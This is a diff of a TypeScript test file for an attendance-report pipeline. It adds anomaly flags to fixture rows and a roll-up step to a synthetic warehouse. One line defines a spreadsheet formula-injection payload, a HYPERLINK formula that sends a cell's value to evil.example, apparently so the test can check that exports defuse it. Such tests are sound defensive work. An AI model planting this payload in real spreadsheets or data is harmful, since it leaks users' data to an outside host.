@@ -15,7 +15,7 @@ import { configurationEntries } from "../pipeline/transform/parameters.ts";
 import { writeInbox } from "./support/hall.ts";
 import { insertRows } from "./support/insert-rows.ts";
 import { publishRuleTables } from "./support/rule-tables.ts";
-import { createEmptyWarehouse } from "./support/synthetic-warehouse.ts";
+import { createEmptyWarehouse, deriveRollUps } from "./support/synthetic-warehouse.ts";
 
 const hallName = "示例县政务服务中心";
 const injectedName = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
@@ -335,6 +335,7 @@ async function fillWarehouse(db: Db): Promise<void> {
       expected_start: "2026-10-09 08:30:00",
       expected_end: "2026-10-09 12:00:00",
       outcome: "迟到",
+      is_anomaly: true,
     },
     {
       month: "2026-10",
@@ -348,6 +349,7 @@ async function fillWarehouse(db: Db): Promise<void> {
       expected_start: "2026-10-09 14:30:00",
       expected_end: "2026-10-09 17:00:00",
       outcome: "正常",
+      is_anomaly: false,
     },
     {
       month: "2026-10",
@@ -361,6 +363,7 @@ async function fillWarehouse(db: Db): Promise<void> {
       expected_start: "2026-10-10 14:30:00",
       expected_end: "2026-10-10 17:00:00",
       outcome: "缺卡",
+      is_anomaly: true,
     },
     {
       month: "2026-10",
@@ -373,6 +376,7 @@ async function fillWarehouse(db: Db): Promise<void> {
       expected_end: "2026-10-12 12:00:00",
       leave_id: "L1",
       outcome: "请假",
+      is_anomaly: false,
     },
     {
       month: "2026-10",
@@ -384,6 +388,7 @@ async function fillWarehouse(db: Db): Promise<void> {
       expected_start: "2026-10-31 14:30:00",
       expected_end: "2026-10-31 17:00:00",
       outcome: "旷工",
+      is_anomaly: true,
     },
   ]);
   await insertRows(db, "wh.marts.attendance_missing_days", [
@@ -430,6 +435,9 @@ async function fillWarehouse(db: Db): Promise<void> {
       case when line % 3 = 0 then '时间无法识别：日期时间 = 2026/13/1' else '考勤号码不在名册中：考勤号码 = 9' || line end,
       '投诉人 赵六 13800000000', 2
     from range(2, ${quarantineDetailLimit + 5}) as lines(line)`);
+  await db.run("use wh");
+  await deriveRollUps(db);
+  await db.run("use memory");
 }
 
 /** Every sheet as rows of plain values (dates as ISO text), for comparison and the snapshot. */
